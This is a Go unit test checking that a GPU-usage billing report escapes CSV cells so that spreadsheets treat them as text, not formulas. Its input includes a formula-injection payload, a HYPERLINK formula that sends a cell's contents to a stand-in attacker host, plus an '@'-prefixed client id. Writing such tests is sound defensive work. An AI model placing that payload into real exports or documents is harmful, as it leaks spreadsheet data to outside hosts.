package main

import (
	"bytes"
	"testing"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/bourse/bourse/breakdown"
)

// TestReportCSVInjection: a server may announce any GPU model, and a
// client's id is hers: the report's CSV writes them so that a spreadsheet
// reads text, not a formula.
func TestReportCSVInjection(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, writeReportCSV(&buf, breakdown.Report{Lines: []breakdown.Line{{
		Period: "2026-11-20", Currency: "CRED", Client: "@alice", Model: `=HYPERLINK("http://evil.example/?"&A1,"H100")`,
		Contracts: 1, GPUSeconds: decimal.NewFromInt(-1), Cost: decimal.RequireFromString("-0.50"),
	}}}))
	assert.Equal(t, "period,currency,org,project,client,model,contracts,gpu_seconds,cost\n"+
		`2026-11-20,CRED,,,'@alice,"'=HYPERLINK(""http://evil.example/?""&A1,""H100"")",1,-1,-0.5`+"\n", buf.String())
}
